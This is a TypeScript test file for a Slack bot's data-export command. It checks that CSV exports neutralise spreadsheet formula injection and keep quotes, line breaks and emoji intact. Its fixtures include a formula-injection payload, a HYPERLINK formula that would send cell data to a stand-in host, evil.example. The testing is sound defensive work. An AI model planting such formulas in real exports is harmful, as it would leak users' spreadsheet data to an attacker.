import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { EXPORT_TABLES, exportTables } from '../../src/domain/export.js';
import { EMPTY_PHASE_CONTENT } from '../../src/domain/phase-content.js';
import { exportCommand } from '../../src/export-cli.js';
import { createLogger } from '../../src/logger.js';
import { addMetric, recordCheckin } from '../../src/services/metrics.js';
import { changePhase } from '../../src/services/phases.js';
import { findStrategyByChannel } from '../../src/storage/strategies.js';
import { exportFiles, neutraliseCell, tableCsv } from '../../src/views/export.js';
import { fillStrategy, serviceDeps, USERS } from '../plan/support.js';
import { appForEachTest } from '../support/app-per-test.js';
import type { TestApp } from '../support/harness.js';

const t = appForEachTest({ users: USERS });

/** Texts a spreadsheet or a CSV reader could trip on, each as a person might type it. */
const HOSTILE = {
  formula: '=HYPERLINK("https://evil.example/?x="&A1,"click")',
  plus: '+358 40 123 4567',
  minus: '-2+3',
  at: '@SUM(1+1)',
  quotes: 'She said "go", then left',
  lines: 'first line\nsecond, with a comma\r\nthird',
  emoji: 'Growth 🚀📈 and ünïcödé — “quotes”',
};

/** The files of the ZIP the app posted last, by name. */
function postedZip(t: TestApp): { filename: string; files: Record<string, Uint8Array> } {
  const url = t.standIn.callsOf('files.getUploadURLExternal').at(-1);
  if (!url) throw new Error('no file uploaded');
  const bytes = t.standIn.uploads.get(url.result!.file_id);
  if (!bytes) throw new Error('the upload URL was never sent the bytes');
  expect(Number(url.args.length)).toBe(bytes.length);
  return { filename: String(url.args.filename), files: unzipSync(new Uint8Array(bytes)) };
}

/** A CSV file as a spreadsheet reads it: the byte order mark first, then records by header. */
function readCsv(bytes: Uint8Array): { header: string[]; records: Record<string, string>[] } {
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const rows: string[][] = parse(Buffer.from(bytes), { bom: true, relax_column_count: false });
  const [header, ...rest] = rows;
  return {
    header: header!,
    records: rest.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]!]))),
  };
}

/** What a spreadsheet shows, the neutralising apostrophe taken off again. */
const unneutralised = (cell: string) => (/^'[=+\-@\t\r]/.test(cell) ? cell.slice(1) : cell);

async function hostileStrategy(t: TestApp, channel: string, admin: string) {
  const deps = serviceDeps(t);
  const strategy = (await findStrategyByChannel(t.app.db, { teamId: 'T1' }, channel))!;
  const actor = { userId: admin, isWorkspaceAdmin: false };
  t.clock.advance(60_000);
  const phase = await changePhase(deps, {
    strategy,
    key: 'content',
    actor,
    change: { notes: [HOSTILE.quotes, HOSTILE.lines, HOSTILE.emoji].join('\n') },
  });
  expect(phase.kind).toBe('updated');
  t.clock.advance(60_000);
  const metric = await addMetric(deps, {
    strategy,
    actor,
    metric: {
      name: '=1+2 revenue, "net"',
      unit: '@users',
      baseline: -5,
      target: 10,
      targetDate: '2027-06-30',
      ownerId: 'U2',
      direction: 'up',
      cadence: 'weekly',
    },
  });
  if (metric.kind !== 'created') throw new Error('metric not created');
  t.clock.advance(60_000);
  const checkin = await recordCheckin(deps, {
    strategy,
    reportedBy: 'U3',
    at: t.clock.now(),
    values: [{ metricId: metric.metric.id, value: -1.5, comment: `${HOSTILE.formula}\n${HOSTILE.emoji}` }],
  });
  expect(checkin.kind).not.toBe('refused');
  return metric.metric.id;
}

describe('/smstrategy export', () => {
  it('posts a ZIP of CSV files a spreadsheet reads back as typed, with a README naming the columns', async () => {
    await t.reply('start Renovation 2027', { user: 'U1' });
    await fillStrategy(t, 'C1', 'U1');
    const metricId = await hostileStrategy(t, 'C1', 'U1');
    const reply = await t.reply('export', { user: 'U2' });
    expect(reply.response_type).toBe('ephemeral');
    expect(reply.text).toBe(
      'The export is posted in this channel as a ZIP file: one CSV file per kind of data, and a README naming the columns.',
    );
    const complete = t.standIn.callsOf('files.completeUploadExternal');
    expect(complete).toHaveLength(1);
    expect(complete[0]!.args.channel_id).toBe('C1');
    const { filename, files } = postedZip(t);
    expect(filename).toBe('renovation-2027-export-2026-12-02.zip');
    // No channel register yet: that table appears only once the strategy has one.
    expect(Object.keys(files).sort()).toEqual(
      [
        'README.txt',
        'phases.csv',
        'phase_fields.csv',
        'goals.csv',
        'metrics.csv',
        'checkins.csv',
        'action_items.csv',
        'audit_trail.csv',
      ].sort(),
    );

    const readme = Buffer.from(files['README.txt']!).toString('utf8');
    expect(readme).toContain('Renovation 2027: data export');
    expect(readme).toContain('apostrophe in front');
    const tables: Record<string, Record<string, string>[]> = {};
    for (const [name, bytes] of Object.entries(files)) {
      if (!name.endsWith('.csv')) continue;
      const table = name.slice(0, -'.csv'.length) as keyof typeof EXPORT_TABLES;
      const { header, records } = readCsv(bytes);
      expect(header).toEqual([...EXPORT_TABLES[table]]);
      // The README names every column of every file it lists.
      expect(readme).toContain(name);
      for (const column of header) expect(readme).toContain(`  ${column}: `);
      tables[table] = records;
    }

    const phases = tables.phases!;
    expect(phases.map((p) => p.key)).toEqual([
      'listening',
      'goals',
      'content',
      'presence',
      'channels',
      'measurement',
      'organisation',
      'action_plan',
    ]);
    expect(phases[0]).toMatchObject({
      owner_id: 'U2',
      owner_name: 'Olli',
      owner_left: 'false',
      status: 'in_progress',
    });
    // Quotes, commas, line breaks (CRLF too) and emoji come back exactly as typed.
    expect(phases[2]!.notes).toBe([HOSTILE.quotes, HOSTILE.lines, HOSTILE.emoji].join('\n'));

    const metric = tables.metrics!.find((m) => m.metric_id === metricId)!;
    // A formula-looking text is neutralised, a number stays a number (a negative one too).
    expect(metric.name).toBe('\'=1+2 revenue, "net"');
    expect(unneutralised(metric.name!)).toBe('=1+2 revenue, "net"');
    expect(metric.unit).toBe("'@users");
    expect(metric.baseline).toBe('-5');
    expect(tables.metrics!.map((m) => m.name)).toContain('Newsletter subscribers');

    const checkin = tables.checkins!.find((c) => c.metric_id === metricId)!;
    expect(checkin.value).toBe('-1.5');
    expect(checkin.reported_by_name).toBe('Aino Aalto');
    expect(checkin.comment).toBe(`'${HOSTILE.formula}\n${HOSTILE.emoji}`);
    expect(unneutralised(checkin.comment!)).toBe(`${HOSTILE.formula}\n${HOSTILE.emoji}`);
    expect(tables.checkins!.filter((c) => c.metric_name === 'Newsletter subscribers')).toHaveLength(2);

    const audit = tables.audit_trail!;
    expect(audit[0]).toMatchObject({
      action: 'strategy.created',
      actor_id: 'U1',
      actor_name: 'Maria Virtanen',
    });
    expect(audit.map((a) => a.at)).toEqual([...audit.map((a) => a.at)].sort());
    expect(audit.some((a) => a.action === 'metric.created' && a.after?.includes('=1+2 revenue'))).toBe(true);
    // No cell of any table starts a formula.
    for (const records of Object.values(tables))
      for (const record of records)
        for (const cell of Object.values(record))
          if (Number.isNaN(Number(cell))) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('writes the README in Finnish for a Finnish strategy, with the same column names', async () => {
    await t.reply('start Remontti 2027', { user: 'UFI', channel: 'C2' });
    await fillStrategy(t, 'C2', 'UFI', 'fi');
    await hostileStrategy(t, 'C2', 'UFI');
    const reply = await t.reply('export', { user: 'UFI', channel: 'C2' });
    expect(reply.text).toBe(
      'Tiedot on julkaistu tällä kanavalla ZIP-tiedostona: jokaisesta tietolajista oma CSV-tiedostonsa ja README, joka kertoo sarakkeiden sisällön.',
    );
    const { filename, files } = postedZip(t);
    expect(filename).toBe('remontti-2027-export-2026-12-02.zip');
    expect(t.standIn.callsOf('files.completeUploadExternal').at(-1)!.args.files).toEqual([
      { id: expect.any(String), title: 'Remontti 2027: tiedot 2026-12-02' },
    ]);
    const readme = Buffer.from(files['README.txt']!).toString('utf8');
    expect(readme).toContain('Remontti 2027: tiedot');
    expect(readme).toContain('heittomerkki');
    expect(readme).toContain('  owner_left: true, jos Slack on ilmoittanut');
    const metrics = readCsv(files['metrics.csv']!);
    expect(metrics.header).toEqual([...EXPORT_TABLES.metrics]);
    expect(metrics.records.map((m) => m.name)).toContain('Uutiskirjeen tilaajat');
    const phases = readCsv(files['phases.csv']!);
    expect(phases.records[2]!.notes).toBe([HOSTILE.quotes, HOSTILE.lines, HOSTILE.emoji].join('\n'));
  });

  it('says so, in the person’s language, when Slack does not take the file', async () => {
    await t.reply('start Renovation 2027', { user: 'U1' });
    t.standIn.fail('files.getUploadURLExternal', { error: 'not_in_channel' });
    const reply = await t.reply('export', { user: 'U1' });
    expect(reply.text).toMatch(/^I could not post the export\. I am not a member of <#C1>/);
    await t.reply('start Remontti', { user: 'UFI', channel: 'C2' });
    t.standIn.fail('files.getUploadURLExternal', { error: 'not_in_channel' });
    const fi = await t.reply('export', { user: 'UFI', channel: 'C2' });
    expect(fi.text).toMatch(/^En saanut julkaistua tietoja\./);
  });

  it('tells how to start a strategy in a channel without one', async () => {
    const reply = await t.reply('export', { user: 'U1', channel: 'C9' });
    expect(reply.text).toContain('/smstrategy start');
    expect(t.standIn.callsOf('files.getUploadURLExternal')).toHaveLength(0);
  });

  it('writes the same files and a JSON form from the command line', async () => {
    await t.reply('start Renovation 2027', { user: 'U1' });
    await fillStrategy(t, 'C1', 'U1');
    await hostileStrategy(t, 'C1', 'U1');
    await t.reply('export', { user: 'U1' });
    const { files } = postedZip(t);
    const out = mkdtempSync(join(tmpdir(), 'smstrategy-export-'));
    try {
      const result = await exportCommand(
        t.app.db,
        ['--team', 'T1', '--channel', 'C1', '--out', out],
        t.clock,
        createLogger('silent'),
      );
      expect(result).toMatchObject({ code: 0 });
      expect(readdirSync(out).sort()).toEqual([...Object.keys(files), 'export.json'].sort());
      for (const [name, bytes] of Object.entries(files))
        expect(readFileSync(join(out, name)).equals(Buffer.from(bytes))).toBe(true);
      const json = JSON.parse(readFileSync(join(out, 'export.json'), 'utf8'));
      expect(json.strategy.name).toBe('Renovation 2027');
      // JSON holds values as typed: no apostrophes, numbers as numbers.
      const metric = json.metrics.find((m: { name: string }) => m.name.startsWith('=1+2'));
      expect(metric).toMatchObject({ name: '=1+2 revenue, "net"', baseline: -5, owner_left: false });
      expect(json.checkins.some((c: { comment: string | null }) => c.comment?.startsWith('=HYPERLINK'))).toBe(
        true,
      );
    } finally {
      rmSync(out, { recursive: true, force: true });
    }
    expect(await exportCommand(t.app.db, ['--team', 'T1'], t.clock, createLogger('silent'))).toMatchObject({
      code: 2,
    });
    expect(
      await exportCommand(
        t.app.db,
        ['--team', 'T1', '--channel', 'C9', '--out', '/tmp/x'],
        t.clock,
        createLogger('silent'),
      ),
    ).toEqual({ code: 1, error: 'no strategy in channel C9 of workspace T1' });
  });
});

describe('the export tables', () => {
  it('write phase content, action items and the channel register, hostile cells included', () => {
    const strategy = {
      id: 'S1',
      teamId: 'T1',
      channelId: 'C1',
      name: 'X',
      language: 'en' as const,
      timeZone: 'Europe/Helsinki',
      state: 'active' as const,
      createdBy: 'U1',
      createdAt: new Date(0),
      updatedAt: new Date(0),
    };
    const tables = exportTables({
      strategy: strategy as never,
      phases: [],
      metrics: [],
      checkins: [],
      audit: [],
      names: new Map([['U2', '@Olli']]),
      departed: new Set(['U2']),
      content: {
        ...EMPTY_PHASE_CONTENT,
        fields: { listening: { sources: HOSTILE.lines, findings: HOSTILE.formula } },
        goals: [{ id: 'G1', text: HOSTILE.plus, metricIds: ['M1', 'M2'] }],
        actions: [{ id: 'A1', what: HOSTILE.minus, ownerId: 'U2', due: '2027-01-15', done: false }],
        channels: [
          {
            id: 'R1',
            service: 'Instagram',
            handle: HOSTILE.at,
            audience: HOSTILE.emoji,
            purpose: HOSTILE.quotes,
            cadence: 'weekly',
            ownerId: 'U2',
            lastActivity: {
              period: '2027-W02',
              posted: true,
              count: 3,
              confirmedAt: new Date('2027-01-12T08:00:00Z'),
            },
          },
        ],
      },
    });
    const byName = Object.fromEntries(
      tables.map((table) => {
        const rows: string[][] = parse(tableCsv(table), { bom: true });
        expect(rows[0]).toEqual([...table.columns]);
        return [table.name, rows.slice(1).map((r) => Object.fromEntries(rows[0]!.map((h, i) => [h, r[i]!])))];
      }),
    );
    expect(byName.phases).toHaveLength(8);
    expect(byName.phase_fields).toEqual([
      { phase_key: 'listening', field: 'sources', text: HOSTILE.lines },
      { phase_key: 'listening', field: 'findings', text: `'${HOSTILE.formula}` },
    ]);
    expect(byName.goals).toEqual([{ goal_id: 'G1', text: `'${HOSTILE.plus}`, metric_ids: 'M1 M2' }]);
    expect(byName.action_items).toEqual([
      {
        action_id: 'A1',
        what: `'${HOSTILE.minus}`,
        owner_id: 'U2',
        owner_name: "'@Olli",
        owner_left: 'true',
        due_date: '2027-01-15',
        done: 'false',
      },
    ]);
    expect(byName.channel_register).toEqual([
      {
        entry_id: 'R1',
        service: 'Instagram',
        handle: `'${HOSTILE.at}`,
        audience: HOSTILE.emoji,
        purpose: HOSTILE.quotes,
        cadence: 'weekly',
        owner_id: 'U2',
        owner_name: "'@Olli",
        owner_left: 'true',
        last_period: '2027-W02',
        last_posted: 'true',
        last_count: '3',
        last_confirmed_at: '2027-01-12T08:00:00.000Z',
      },
    ]);
    // Every table's columns are explained in both READMEs.
    for (const language of ['en', 'fi'] as const) {
      const readme = exportFiles(language, strategy, '2027-01-15', tables)[0]!.bytes.toString('utf8');
      for (const table of tables)
        for (const column of table.columns) expect(readme).toMatch(new RegExp(`  ${column}: \\S`));
    }
  });

  it('neutralise only text that a spreadsheet would run', () => {
    expect(neutraliseCell('=1')).toBe("'=1");
    expect(neutraliseCell('\t=1')).toBe("'\t=1");
    expect(neutraliseCell('a=1')).toBe('a=1');
    expect(neutraliseCell(-3)).toBe(-3);
    expect(neutraliseCell(null)).toBe('');
    expect(neutraliseCell(true)).toBe('true');
  });
});
